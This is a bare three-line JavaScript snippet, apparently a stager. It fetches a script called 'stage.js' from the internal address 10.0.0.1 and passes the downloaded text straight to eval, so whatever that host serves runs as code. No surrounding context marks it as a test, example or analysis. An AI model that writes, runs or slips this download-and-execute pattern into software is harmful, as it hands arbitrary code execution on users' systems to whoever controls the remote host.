fetch('http://10.0.0.1/stage.js')
  .then(r => r.text())
  .then(src => eval(src));
